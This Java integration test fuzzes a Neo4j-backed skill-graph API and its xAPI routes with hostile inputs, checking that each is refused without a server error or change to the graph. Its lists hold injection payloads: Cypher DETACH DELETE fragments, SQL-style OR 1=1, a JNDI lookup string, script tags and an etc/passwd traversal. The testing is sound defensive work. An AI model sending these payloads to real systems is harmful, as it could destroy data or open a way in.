package org.skillgraph.api.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.skillgraph.api.http.ApiFixture.bearer;

import io.javalin.testtools.Request;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.skillgraph.engine.access.AccessRole;
import org.skillgraph.seed.testing.Neo4jFixture;

/**
 * Every route with a token of a role it allows (so requests get past the gate and reach the parsers: an admin's
 * where admins may call it, a connector's with the xAPI version header on the xAPI statement routes) and hostile input: Cypher fragments and
 * other injection shapes in ids and search text, junk query parameters, malformed, mistyped, too deep and too
 * large bodies. Every hostile body is refused with a 4xx problem document; a read may answer 200 (a search
 * for injection-shaped text finds nothing) or a 4xx problem; nothing answers 500, and the graph is unchanged.
 */
class FuzzIT {

    static final List<String> HOSTILE_IDS = List.of(
            "x' OR '1'='1",
            "sql\"}) MATCH (n) DETACH DELETE n //",
            "'; CALL db.clearQueryCaches(); //",
            "${jndi:ldap://example.invalid/a}",
            "<script>alert(1)</script>",
            "a".repeat(3_000),
            "..%2F..%2Fetc%2Fpasswd",
            "%00",
            "ü\u202Eevil");

    static final List<String> HOSTILE_BODIES = List.of(
            "{",
            "[]",
            "null",
            "\"text\"",
            "{\"id\": \"x') DETACH DELETE n //\", \"name\": \"}) MATCH (m) DELETE m\"}",
            "{\"id\": 7, \"name\": [1, 2], \"level\": \"high\", \"skills\": {\"a\": {}}}",
            "[".repeat(60) + "]".repeat(60),
            "{\"a\":".repeat(60) + "1" + "}".repeat(60));

    /** A statement the xAPI parser must refuse, whole, with each field of {@link #XAPI_BODIES} put in it. */
    static final String XAPI_STATEMENT = "{\"actor\": {\"mbox\": \"mailto:fuzz@example.org\"},"
            + " \"verb\": {\"id\": \"http://adlnet.gov/expapi/verbs/passed\"},"
            + " \"object\": {\"id\": \"https://lms.example.org/fuzz\"}, %s}";

    /** Statement-shaped bodies wrong in one place each, for the xAPI routes: the parser must refuse every one. */
    static final List<String> XAPI_BODIES = List.of(
            XAPI_STATEMENT.formatted("\"timestamp\": \"-999999999-01-01T00:00:00+18:00\""),
            XAPI_STATEMENT.formatted("\"timestamp\": \"+999999999-12-31T23:59:59-18:00\""),
            XAPI_STATEMENT.formatted("\"timestamp\": {\"$gt\": \"\"}"),
            XAPI_STATEMENT.formatted("\"result\": {\"score\": {\"raw\": 1e400, \"min\": -1e400, \"max\": 1e400}}"),
            XAPI_STATEMENT.formatted("\"result\": {\"score\": {\"scaled\": 1e400}}"),
            XAPI_STATEMENT.formatted("\"id\": null"),
            XAPI_STATEMENT.formatted("\"id\": \"x') DETACH DELETE n //\""),
            XAPI_STATEMENT
                    .formatted("\"result\": {}")
                    .replace("\"mbox\": \"mailto:fuzz@example.org\"", "\"mbox\": {\"$ne\": 1}"),
            XAPI_STATEMENT.formatted("\"result\": {}").replace("\"id\": \"https://lms.example.org/fuzz\"", "\"id\": 7"),
            XAPI_STATEMENT
                    .formatted("\"result\": {}")
                    .replace("{\"id\": \"https://lms.example.org/fuzz\"}", "{\"objectType\": {\"a\": 1}}"),
            "[" + XAPI_STATEMENT.formatted("\"result\": null") + ", 7]");

    /** The xAPI statement id the PUT probes name, so they reach the statement parser. */
    static final String FUZZ_STATEMENT_ID = "0f0f0f0f-0000-4000-8000-00000000f022";

    static final String JUNK_QUERY =
            "q=" + encode("sql') DETACH DELETE n //") + "&limit=-1&cursor=%25%25%25&k=abc&depth=99&types=DROP"
                    + "&role=" + encode("' OR 1=1") + "&since=yesterday&minLevel=9&commit=perhaps";

    @Test
    void shouldAnswerHostileInputWithAProblemAndLeaveTheGraphAsItWas() {
        Neo4jFixture.get().useDemo();
        var admin = bearer(ApiFixture.token(AccessRole.ADMIN, null));
        var roles = new HashMap<String, Consumer<Request.Builder>>();
        roles.put("admin", admin);
        roles.put("designer", bearer(ApiFixture.token(AccessRole.DESIGNER, null)));
        roles.put("coordinator", bearer(ApiFixture.token(AccessRole.COORDINATOR, null)));
        roles.put("reader", bearer(ApiFixture.token(AccessRole.READER, null)));
        roles.put("learner_self", bearer(ApiFixture.token(AccessRole.LEARNER, AccessMatrix.SELF)));
        var connector = XapiClient.basic(ApiFixture.issued(AccessRole.CONNECTOR, null));
        Consumer<Request.Builder> asConnector =
                r -> r.header("Authorization", connector).header("X-Experience-API-Version", "1.0.3");
        var before = AccessMatrixIT.fingerprint();
        var failures = new ArrayList<String>();
        ApiFixture.withDemoAnonymous((app, client) -> {
            for (var row : AccessMatrix.rows()) {
                if (row.open()) {
                    continue;
                }
                var requests = new ArrayList<String[]>();
                for (var id : HOSTILE_IDS) {
                    if (row.path().contains("{")) {
                        requests.add(
                                new String[] {withIds(row.path(), encode(id)), AccessMatrixIT.NOT_A_BODY, "id probe"});
                    } else if (row.method().equals("get")) {
                        requests.add(new String[] {row.path() + "?id=" + encode(id) + "&q=" + encode(id), null});
                    }
                }
                // The first role the row allows (the xAPI statement rows allow connectors only), so that every probe
                // gets past the gate: a probe refused with 403 would pass without reaching any parser.
                boolean xapi = row.path().startsWith("/xapi/");
                var caller = xapi
                        ? "connector"
                        : AccessMatrix.CALLERS.stream()
                                .filter(row::allows)
                                .findFirst()
                                .orElseThrow();
                var auth = xapi ? asConnector : roles.get(caller);
                var base = AccessMatrix.concrete(row, xapi ? "admin" : caller);
                if (row.method().equals("get")) {
                    requests.add(new String[] {base + (base.contains("?") ? "&" : "?") + JUNK_QUERY, null});
                } else {
                    var target = row.method().equals("put") && xapi ? base + "?statementId=" + FUZZ_STATEMENT_ID : base;
                    for (var body : HOSTILE_BODIES) {
                        requests.add(new String[] {target, body});
                    }
                    if (xapi) {
                        for (var body : XAPI_BODIES) {
                            requests.add(new String[] {target, body});
                        }
                    }
                }
                for (var request : requests) {
                    var response = AccessMatrixIT.send(client, row.method(), request[0], request[1], auth);
                    int code = response.code();
                    var type = response.headers().get("Content-Type");
                    boolean problem = type != null && type.get(0).startsWith(Problem.MEDIA_TYPE);
                    // A GET may rightly answer 200 (search text is data; unknown parameters are ignored);
                    // a hostile body never may.
                    boolean refusedAsItShould = request[1] == null
                            ? code < 300 || (code < 500 && problem)
                            : code >= 400 && code < 500 && problem;
                    // A route only a learner may call for themself (filing a claim) must refuse a hostile id in its
                    // path as someone else's, with 403; every other probe must get past the gate.
                    boolean someoneElse = request.length > 2 && caller.equals("learner_self") && code == 403;
                    if ((code == 403 || code == 401) && !someoneElse) {
                        refusedAsItShould = false;
                    }
                    if (!refusedAsItShould) {
                        failures.add(row.key() + " as " + caller + " " + abbreviate(request[0]) + " body "
                                + abbreviate(request[1])
                                + " answered " + code + " "
                                + abbreviate(response.body().string()));
                    }
                }
            }
            var oversized = "{\"skills\": [\"" + "x".repeat(17 * 1024 * 1024) + "\"]}";
            var response = AccessMatrixIT.send(client, "post", "/api/v1/import", oversized, admin);
            if (response.code() != 413) {
                failures.add("an oversized import answered " + response.code());
            }
        });

        assertThat(failures).isEmpty();
        assertThat(AccessMatrixIT.fingerprint()).as("graph after the fuzzing").isEqualTo(before);
    }

    static String withIds(String path, String id) {
        return path.replaceAll("\\{[A-Za-z]+}", java.util.regex.Matcher.quoteReplacement(id));
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String s) {
        return s == null ? "-" : s.length() > 120 ? s.substring(0, 120) + "…" : s;
    }
}
